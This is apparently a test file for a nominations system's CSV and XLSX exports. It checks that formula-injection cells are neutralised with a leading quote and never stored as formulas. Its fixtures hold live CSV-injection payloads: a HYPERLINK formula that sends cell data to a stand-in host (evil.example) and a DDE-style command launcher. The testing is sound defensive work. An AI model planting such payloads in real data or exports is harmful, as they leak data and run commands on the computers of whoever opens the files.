// Hole 4 (issue 8): cells that a spreadsheet would run as a formula. Rows in a real database
// carry =HYPERLINK(…), @SUM(…), +…, -…, and a leading tab or carriage return; the .csv exports
// of the talent pool and a vacancy's tally and nominations must hand them over as text
// (OWASP: a leading single quote), numbers must stay numbers, and the .xlsx must store them
// as strings, never as formulas.
import JSZip from "jszip";
import { db } from "@/lib/db/client";
import { submitNomination, type SubmitResult } from "@/lib/data/nominations";
import { decideNominations } from "@/lib/data/nomination-review";
import { exportTalentPool, exportVacancyNominations, exportVacancyTally } from "@/lib/data/exports";
import { renderTable } from "@/lib/nominations/spreadsheet";
import { makeUser, makeVacancy, open, targeted } from "./nominations-fixtures";

const HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A2,"点此查看")';
const AT_SUM = "@SUM(1+1)*cmd|' /C calc'!A0";
const PLUS = "+1+1 舟山市";
const MINUS = "-1";
const TAB = "\t=1+1";
const CR = "\r=1+1";
const DANGEROUS = [HYPERLINK, AT_SUM, PLUS, MINUS, TAB, CR];

/** RFC 4180 fields of a CSV text (quoted fields may hold commas, quotes and line breaks). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let cell = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i];
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') {
        cell += '"';
        i++;
      } else if (ch === '"') quoted = false;
      else cell += ch;
    } else if (ch === '"') quoted = true;
    else if (ch === ",") {
      row.push(cell);
      cell = "";
    } else if (ch === "\n" || (ch === "\r" && text[i + 1] === "\n")) {
      if (ch === "\r") i++;
      row.push(cell);
      rows.push(row);
      row = [];
      cell = "";
    } else cell += ch;
  }
  if (cell || row.length) rows.push([...row, cell]);
  return rows;
}

const risky = (cell: string) => /^[=+\-@\t\r]/.test(cell);

async function poisonedVacancy() {
  const reviewer = await makeUser({ role: "REVIEWER" });
  const v = await makeVacancy({ maxPerNominator: 3 });
  const a = await makeUser({ realName: MINUS });
  const b = await makeUser();
  const results: SubmitResult[] = [
    await submitNomination(a, targeted(a, v.id, { name: "贺恩盛", workUnit: "舟山市普陀区农林水利局" })),
    await submitNomination(b, targeted(b, v.id, { name: "林晓燕", gender: "F" })),
    await submitNomination(a, open(a, { name: "周海波" })),
  ];
  const ids = results.map((r) => r.id);
  // Whatever the forms accept today or accepted before: write the cells straight into the rows.
  const n0 = await db().nomination.findUniqueOrThrow({ where: { id: ids[0] } });
  await db().candidate.update({ where: { id: n0.candidateId }, data: { name: HYPERLINK, workUnit: AT_SUM, currentPost: PLUS } });
  const nominee = JSON.parse(n0.nominee);
  await db().nomination.update({
    where: { id: ids[0] },
    data: { nominee: JSON.stringify({ ...nominee, name: HYPERLINK, workUnit: AT_SUM, currentPost: PLUS }), reasonDe: TAB, reasonNeng: CR },
  });
  await decideNominations(reviewer, [ids[1]], "REJECTED", "@SUM(A1:A9)");
  const n2 = await db().nomination.findUniqueOrThrow({ where: { id: ids[2] } });
  await db().nomination.update({
    where: { id: ids[2] },
    data: { nominee: JSON.stringify({ ...JSON.parse(n2.nominee), name: HYPERLINK }), reasonJi: MINUS },
  });
  return { reviewer, vacancyId: v.id };
}

describe("exports neutralize formula cells (hole 4)", () => {
  test("the .csv of the tally, the nominations and the talent pool: no cell starts a formula", async () => {
    const { reviewer, vacancyId } = await poisonedVacancy();
    const tables = [
      await exportVacancyTally(reviewer, vacancyId),
      await exportVacancyNominations(reviewer, vacancyId),
      await exportTalentPool(reviewer, {}),
    ];
    for (const table of tables) {
      const text = (await renderTable(table, "csv")).toString("utf8");
      expect(text.startsWith("\uFEFF")).toBe(true);
      const rows = parseCsv(text.slice(1));
      expect(rows).toHaveLength(table.rows.length + 1);
      const cells = rows.flat();
      expect(cells.filter(risky)).toEqual([]);
      // The text is kept, behind the quote: the department still reads what was typed.
      expect(cells).toContain(`'${HYPERLINK}`);
    }
    const nominations = parseCsv((await renderTable(tables[1], "csv")).toString("utf8").slice(1)).flat();
    for (const s of DANGEROUS) expect(nominations).toContain(`'${s}`);
    expect(nominations).toContain("'@SUM(A1:A9)");
  });

  test("numbers stay numbers; a negative number is a number, a typed '-1' is text", async () => {
    const table = {
      title: "t",
      headers: ["序号", "差额", "说明"],
      rows: [
        [1, -3, MINUS],
        [2, 0, "正常文字"],
      ],
    };
    const rows = parseCsv((await renderTable(table, "csv")).toString("utf8").slice(1));
    expect(rows.slice(1)).toEqual([
      ["1", "-3", "'-1"],
      ["2", "0", "正常文字"],
    ]);
  });

  test("the .xlsx stores such cells as text, never as formulas", async () => {
    const { reviewer, vacancyId } = await poisonedVacancy();
    const table = await exportVacancyNominations(reviewer, vacancyId);
    const zip = await JSZip.loadAsync(await renderTable(table, "xlsx"));
    const sheet = await zip.file("xl/worksheets/sheet1.xml")!.async("string");
    expect(sheet).not.toMatch(/<f[ >]/);
    const shared = (await zip.file("xl/sharedStrings.xml")?.async("string")) ?? sheet;
    expect(shared).toContain("=HYPERLINK(");
  });
});
